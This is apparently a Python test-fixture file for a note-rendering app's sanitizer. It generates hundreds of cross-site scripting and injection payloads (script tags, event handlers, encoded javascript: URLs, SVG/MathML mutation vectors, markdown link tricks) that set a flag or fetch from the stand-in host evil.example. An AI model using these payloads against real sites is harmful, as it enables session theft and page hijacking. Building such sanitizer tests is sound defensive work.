"""What a hostile note may hold: hundreds of ways to smuggle something live into a page.

Each payload, were it to work, would set `window.hostile` or ask `evil.example` for something.
"""

# ruff: noqa: E501 - payloads are not broken over lines

from itertools import product

RUN = "window.hostile=1"
FOREIGN = "evil.example"

ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java&#9;script:{RUN}",
    f"java&Tab;script:{RUN}",
    f"java&NewLine;script:{RUN}",
    f"java&#x0D;&#x0A;script:{RUN}",
    f"&#1;javascript:{RUN}",
    f"&#x20;javascript:{RUN}",
    f"&#106;&#97;vascript:{RUN}",
    f"&#0000106avascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript&#58;{RUN}",
    f"javascript://%0a{RUN}",
    f"%6Aavascript:{RUN}",
    f"javascript%3A{RUN}",
    f"feed:javascript:{RUN}",
    f"view-source:javascript:{RUN}",
    "livescript:hostile",
    "vbscript:hostile",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaG9zdGlsZT0xPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload=window.hostile=1>",
    "DATA:,hostile",
    "blob:https://evil.example/1",
    "filesystem:https://evil.example/1",
    "file:///etc/passwd",
    "ftp://evil.example/",
    "ws://evil.example/",
    "intent://evil.example#Intent;end",
    "about:blank",
    "//evil.example/",
    "///evil.example/",
    "/\\evil.example/",
    "\\\\evil.example\\",
    "&#47;&#47;evil.example/",
    "\u2028//evil.example/",
    "http:evil.example",
    "https:/evil.example",
    "http://[evil",
    'http://evil.example/"onmouseover="window.hostile=1',
    "http://evil.example/'onmouseover='window.hostile=1",
    "http://evil.example/`onmouseover=`window.hostile=1",
    "http://evil.example/><script>window.hostile=1</script>",
    'http://evil.example/[0:07]"x',
    "http://evil.example/&#x100000;&#x10fffd;&#xF0000;",
    "mailto:a@evil.example?subject=<script>",
    "#t=9",
    "?t=9",
    "../../static/js/main.js",
    '/note/x?"onclick=',
    "x" * 5000,
]

_BODIES = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script type=module>{RUN}</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js>",
    "<script src=data:,window.hostile=1></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"]]></script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</p></div></article></main><script>{RUN}</script>",
    f"-->{RUN}<script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"`><img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'",
    f"<img/src=x/onerror={RUN}>",
    f"<img\tsrc=x\nonerror={RUN}>",
    f'<img src=x onerror="{RUN}" x="',
    f'<img """><script>{RUN}</script>">',
    f"<img src=x:x onerror&#61;{RUN}>",
    "<img src=https://evil.example/i.png>",
    "<img srcset='//evil.example/i.png 2x'>",
    "<picture><source srcset=//evil.example/i.png><img></picture>",
    f"<image href=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    "<svg><script href=data:,window.hostile=1 />",
    f"<svg><a xlink:href=javascript:{RUN}><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributeName=x>",
    "<svg><use href=//evil.example/x.svg#a></svg>",
    "<svg><image href=//evil.example/i.png></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    f'<math><mi//xlink:href="data:x,<script>{RUN}</script>">',
    f"<math href=javascript:{RUN}>x</math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/i.png)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preload as=image href=//evil.example/i.png>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<iframe src=//evil.example/></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe onload={RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    "<object data=//evil.example/x></object>",
    f"<embed src=javascript:{RUN}>",
    "<embed src=//evil.example/x>",
    "<applet code=x archive=//evil.example/x.jar></applet>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta name=htmx-config content='{\"allowEval\":true}'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<form action=//evil.example/><input name=x><button>go</button></form>",
    f"<form action=javascript:{RUN}><button>go</button></form>",
    f"<button formaction=javascript:{RUN}>go</button>",
    f"<input onfocus={RUN} autofocus>",
    f"<select onfocus={RUN} autofocus><option>x</select>",
    f"<textarea onfocus={RUN} autofocus>x</textarea>",
    f"<keygen onfocus={RUN} autofocus>",
    f"<isindex type=image src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video><source onerror={RUN}></video>",
    f"<video src=//evil.example/v.mp4 onerror={RUN} autoplay></video>",
    "<video poster=//evil.example/i.png></video>",
    f"<audio src=//evil.example/a.mp3 onerror={RUN}></audio>",
    "<track src=//evil.example/t.vtt default>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN} background=//evil.example/i.png>",
    f"<frameset onload={RUN}><frame src=//evil.example/></frameset>",
    f"<marquee onstart={RUN}>x</marquee>",
    "<bgsound src=//evil.example/a.mp3>",
    "<table background=//evil.example/i.png><tr><td background=//evil.example/i.png>x</table>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f'<noembed><img title="</noembed><img src=x onerror={RUN}>"></noembed>',
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp>',
    f"<plaintext><img src=x onerror={RUN}>",
    f"<custom-element onclick={RUN} tabindex=0 autofocus onfocus={RUN}>x</custom-element>",
    f"<dialog open oncancel={RUN}>x</dialog>",
    "<portal src=//evil.example/></portal>",
    "<fencedframe src=//evil.example/></fencedframe>",
    "<a ping=//evil.example/ href=https://evil.example/ target=_self>x</a>",
    f"<area href=javascript:{RUN}>",
    f"<p popover id=content onbeforetoggle={RUN}>x</p>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!---><img src=x onerror={RUN}>-->",
    f"<!-- --!><img src=x onerror={RUN}> -->",
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"<!-- ><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<!DOCTYPE x [<!ENTITY a '<script>{RUN}</script>'>]>&a;",
    f"</><img src=x onerror={RUN}>",
    f"</ x><img src=x onerror={RUN}>",
    f"<%<img src=x onerror={RUN}>%>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"&#x3c;img src=x onerror={RUN}&#x3e;",
    f"\uff1cimg src=x onerror={RUN}\uff1e",
    f"<scr\0ipt>{RUN}</scr\0ipt>",
    f"<img src=x onerror\0={RUN}>",
    "\u202e>=rorreno x=crs gmi<\u202c",
    "\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
    "\x01\x08\x0b\x0c\x1b[31m\x7f\x85\u2028\u2029\ufeff",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "{0.__class__} %s %(x)s {}",
    "<hx-get>x</hx-get><hx-partial hx-get=/ hx-trigger=load>",
    "\U000f0000 \u2e28\U000f0000\u2e29 \U00100000x\U0010fffd \U00108000y\U0010fffc",
    "\u2e28&#xF0000;\u2e29 \u2e28&#xF4E1F;\u2e29 \u2e28&#983041;\u2e29 \u2e28&#xFFFFD;\u2e29",
    "&#x100000;x&#x10fffd; &#x107fff; &#x108000;y&#x10fffc; &#x10fff0; &#x10fffc;&#x10fffd;",
    "&#1048576;x&#1114109; &#x0000100000; &#xF<!-- -->0000; &#x10<b></b>0000;",
    f"<b title='&#x100000;' onclick={RUN}>&#x10fffd;&#x10fffd;</b></span></a>",
    "<span class=claim data-claim=0 data-start=5>x</span><a class=stamp data-start=5 href=//evil.example/>x</a>",
    "<i data-ui=watch data-act=play data-tab=note data-picture=//evil.example/i.png data-setting=keys>x</i>",
    "<p data-ui=media data-copy=x data-key=k data-does=share data-reason=gone data-view=x>x</p>",
    "<div class=scroller id=notes data-scroller></div><p id=share></p><a name=location></a>",
    "```html\n" + f"<script>{RUN}</script>\n" + "```",
    "~~~\n</code></pre>" + f"<script>{RUN}</script>\n~~~",
    f"`<img src=x onerror={RUN}>` ``</code><script>{RUN}</script>``",
    f"    </pre><script>{RUN}</script>",
    f"| a | <script>{RUN}</script> |\n|---|---|\n| <img src=x onerror={RUN}> | [x](javascript:{RUN}) |",
    f"> [!info]- <script>{RUN}</script>\n> <img src=x onerror={RUN}>",
    f"> [!<img src=x onerror={RUN}>] x",
    f'[x]: javascript:{RUN} "</a><script>{RUN}</script>"\n\n[x] [y][x]',
    f'[a](<javascript:{RUN}>) [b](javascript:{RUN} "onclick={RUN}")',
    f'<javascript:{RUN}> <https://evil.example/?"onclick={RUN}> <a@evil.example>',
    f"![x](https://evil.example/i.png) ![x](data:image/svg+xml,<svg/onload={RUN}>) ![[evil.png]]",
    f'![x](https://evil.example/i.png "" onerror={RUN})',
    f"[![x](//evil.example/i.png)](javascript:{RUN})",
    f"- [ ] <input type=image src=x onerror={RUN}>",
    f"$$<img src=x onerror={RUN}>$$ $\\href{{javascript:{RUN}}}{{x}}$",
    f"[^1]\n\n[^1]: <img src=x onerror={RUN}>",
    f"# <img src=x onerror={RUN}> {{#content .top onclick={RUN}}}",
    f"From: [[<img src=x onerror={RUN}>]]",
]

_STAMPS = [
    f"""<a class="yt-timestamp" data-t='0:09" onclick="{RUN}'>[0:09]</a>""",
    f"""<a class="yt-timestamp" data-t="0:09" onclick="{RUN}" href="javascript:{RUN}">0:09</a>""",
    f"""<a class="yt-timestamp" data-t="75:99" style="x" id="content">{RUN}</a>""",
    f"""<a class="yt-timestamp" data-t="&quot;><img src=x onerror={RUN}>">[x]</a>""",
    f"""<a class="yt-timestamp" data-t="&lt;script&gt;{RUN}">&lt;script&gt;</a>""",
    f"""<a class="yt-timestamp" data-t="00:99:99" hx-get="/" hx-trigger="load">"onclick={RUN}</a>""",
    f"""<a data-t="0:09"><img src=x onerror={RUN}></a>""",
    f"""<a data-t="0:09"><script>{RUN}</script></a>""",
    """<a data-t="&#x100000;&#xF0000;">&#x10fffd;</a>""",
    """<a data-t="999999999999999999999999:01">x</a> <a data-t="-1:-1">x</a> <a data-t="١:٢">x</a>""",
    f"""[0:09](https://youtu.be/abcdefghijk?t=9"onclick={RUN})""",
    f"""https://youtu.be/abcdefghijk?t=9"onclick={RUN} [x](https://youtu.be/a"><script>?t=9)""",
    """[x](#t=0:09"onclick=x) [0:09](javascript:hostile) [[0:09]] ([0:09]) [0:09, "0:10] (0:00:09)""",
]

_ON = "onclick onmouseover onfocus onerror onload onanimationstart onpointerrawupdate".split()
_HX = "hx-get hx-post hx-on:click hx-on--load hx-trigger hx-swap-oob hx-vals data-hx-get".split()
_NAMED = (
    "style class id name data-claim data-start data-act data-ui data-picture aria-label role "
    "is slot part tabindex autofocus contenteditable dir lang hidden popover srcset src background "
    "ping target formaction xlink:href xmlns itemprop accesskey"
).split()
_TAGS = "a b p span h2 td li blockquote code div".split()
_VALUES = {"style": "background:url(//evil.example/i.png)", "hx-trigger": "load", "class": "top"}


def _with_attributes() -> list[str]:
    """Return each tag that notes may use with each attribute that they may not."""
    return [
        f"<{tag} {name}={_VALUES.get(name, RUN if name in _ON else '//evil.example/')!r}>x</{tag}>"
        for tag, name in product(_TAGS, [*_ON, *_HX, *_NAMED])
    ]


def _batches(items: list[str], size: int) -> list[str]:
    return [" ".join(items[at : at + size]) for at in range(0, len(items), size)]


PAYLOADS = [*_BODIES, *_STAMPS, *_batches(_with_attributes(), 15)]
"""Markup to be put wherever a note has words."""


def links(address: str) -> str:
    """Return every way a note can link to, or show, what is at `address`."""
    return (
        f"[x]({address}) [x](<{address}>) ![x]({address}) [[{address}]] [[x|{address}]] <{address}>"
        f' <a href="{address}" title="{address}">x</a> <a href=\'{address}\'>x</a>'
        f' <a href={address}>x</a> <img src="{address}"> <iframe src="{address}"></iframe>'
        f' <form action="{address}"><button formaction="{address}">x</button></form>'
        f"\n\n[r]\n\n[r]: {address}\n"
    )


def markdown_note(payload: str, video_id: str = "") -> str:
    """Return a note with `payload` in every place that a note has."""
    line = " ".join(payload.split("\n"))
    quoted = line.replace("\\", "\\\\").replace('"', '\\"')
    quoted = "".join(char for char in quoted if char.isprintable())
    return (
        f'---\ntitle: "{quoted}"\nvideoId: {video_id or "empty"}\nlang: "{quoted[:11]}"\n'
        f'media: "{quoted}"\n---\nFrom: [[{line}]]\n\n# {line}\n\nInline {line} said [0:01].\n\n'
        f"{payload}\n\nAfter it [0:02].\n\n- item {line} [0:03]\n\n> {line} quoted [0:04]\n\n"
        f"| {line} | cell [0:05] |\n|---|---|\n| {line} | [[{line}|{line}]] [0:06] |\n\n"
        f"[[{line}]] [[other|{line}]] [{line}](https://example.org/) [x]({line}) [0:07]\n\n"
        f'<a class="yt-timestamp" data-t="{line}">{line}</a> <a data-t="0:08">{line}</a>\n\n'
        f"**{line}** *{line}* ~~{line}~~ [0:09]\n\n<div>\n{payload}\n</div>\n\nEnd [0:10].\n"
    )


def html_note(payload: str, video_id: str = "") -> str:
    """Return a page with `payload` in every place that a page has."""
    return (
        f'<!doctype html><html><head><title>{payload}</title><meta name="videoId" '
        f'content="{video_id}"></head><body><h1>{payload}</h1><p>From: {payload}</p>'
        f'<p>Inline {payload} said <a class="yt-timestamp" data-t="0:01">0:01</a>.</p>\n{payload}\n'
        f"<h2>{payload}</h2><ul><li>item {payload} [0:02]</li></ul><blockquote>{payload}</blockquote>"
        f"<table><tr><td>{payload} [0:03]</td></tr></table><pre>{payload}</pre>"
        f'<a href="{payload}">x</a><a href="other.html">{payload}</a>'
        f'<p>End <a data-t="{payload}">{payload}</a> [0:04].</p></body></html>'
    )


def video_id(number: int) -> str:
    """Return a video id for the note of a number."""
    return f"hostile{number:04}"
